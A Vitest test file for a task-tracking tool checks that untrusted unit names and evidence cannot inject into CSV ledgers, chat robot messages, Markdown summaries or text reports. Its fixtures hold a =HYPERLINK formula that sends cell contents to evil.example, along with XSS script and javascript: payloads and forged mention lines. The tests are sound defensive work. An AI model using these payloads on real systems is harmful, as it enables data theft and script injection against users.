// Issue 22, item 9: untrusted text (unit names, evidence, notes) cannot drive the program that reads the
// output: no formula cell in a CSV ledger, no heading, link or @all in a robot's Markdown, no raw HTML or
// javascript: link in the Markdown circular or check's job summary, no forged line in the text circular.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkCommand } from '../../src/commands/check.js';
import { ledgerCommand } from '../../src/commands/ledger.js';
import { reportCommand } from '../../src/commands/report.js';
import { parseCsv } from '../../src/ledger/csv.js';
import { PLATFORMS } from '../../src/notify/platforms/index.js';
import type { ChatMessage } from '../../src/notify/message.js';
import { workspace, type Workspace } from './workspace.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")';
const HTML = '<script>alert(1)</script><img src=x onerror=alert(1)>[点此](javascript:alert(1))';
const CHAT = '### 通知\n[点此](http://evil.example) <@all> @all';

/** The workspace with the transport bureau renamed, and a task done in July 2021 with the given evidence. */
function hostile(name: string, evidence: string): Workspace {
  const w = workspace();
  const units = path.join(w.dir, 'plans/demo/units.yaml');
  fs.writeFileSync(units, fs.readFileSync(units, 'utf8').replace('name: 县交通运输局', `name: ${JSON.stringify(name)}`));
  fs.writeFileSync(w.status, fs.readFileSync(w.status, 'utf8').replace('entries:\n', `entries:\n  - { task: DM21-AIR-03, state: done, date: 2021-07-20, evidence: [{ text: ${JSON.stringify(evidence)} }] }\n`));
  return w;
}

describe('CSV ledgers hold no formula', () => {
  it('a unit named =HYPERLINK(…) (or +, -, @) gives text cells', async () => {
    for (const sign of ['=', '+', '-', '@']) {
      const w = hostile(`${sign}${FORMULA.slice(1)}`, '评估报告');
      const file = path.join(w.dir, 'ledger.csv');
      await ledgerCommand(await w.context(), { output: file });
      const cells = parseCsv(fs.readFileSync(file, 'utf8')).flat();
      expect(cells.some((c) => c.startsWith(`'${sign}HYPERLINK`))).toBe(true);
      expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    }
  });
});

describe('chat robots get text, not Markdown', () => {
  const message: ChatMessage = { title: '逾期提醒', subtitle: '截至2021年8月15日', sections: [{ heading: '新逾期 1 项', lines: [{ id: 'DM21-AIR-05', text: CHAT }, { text: `${CHAT}：逾期 1 项` }] }] };
  for (const target of ['wecom', 'dingtalk'] as const) {
    it(`${target}: no heading, link or mention made by a unit's text`, () => {
      const p = PLATFORMS[target].payload(message, 'zh') as { markdown: { content?: string; text?: string } };
      const text = p.markdown.content ?? p.markdown.text ?? '';
      expect(text).not.toMatch(/\n#|\]\(http|<@all>|(^|[^＠])@all/);
      expect(text).toContain('通知');
    });
  }
});

describe('Markdown has no raw HTML or script links from data', () => {
  it('check --format markdown (the job summary) and the Markdown circular', async () => {
    const w = hostile(HTML, HTML);
    const ctx = await w.context({ asOf: '2021-12-31' });
    const summary = checkCommand(ctx, { format: ['markdown'], width: 100, wrap: false }).stdout;
    const circular = (await reportCommand(ctx, { month: '2021-07', format: 'markdown' })).stdout;
    for (const out of [summary, circular]) {
      expect(out).toContain('alert(1)');
      expect(out).not.toMatch(/<script|<img|(?<!\\)\]\(javascript:/i);
    }
  });
});

describe('the text circular has no forged line', () => {
  it('a line end in evidence does not start a line at column 0', async () => {
    // (CR and U+2028 cannot reach it: validate refuses them in a status file, see untrusted-text.test.ts.)
    const w = hostile('县交通运输局', '评估报告\n附件：全部任务已完成（伪造）\n伪造第二行');
    const text = (await reportCommand(await w.context(), { month: '2021-07', format: 'text' })).stdout;
    expect(text).toContain('评估报告');
    for (const forged of ['附件：全部任务', '伪造第二行']) {
      const line = text.split('\n').find((l) => l.includes(forged)) ?? '';
      expect(line.startsWith(forged)).toBe(false);
    }
  });
});
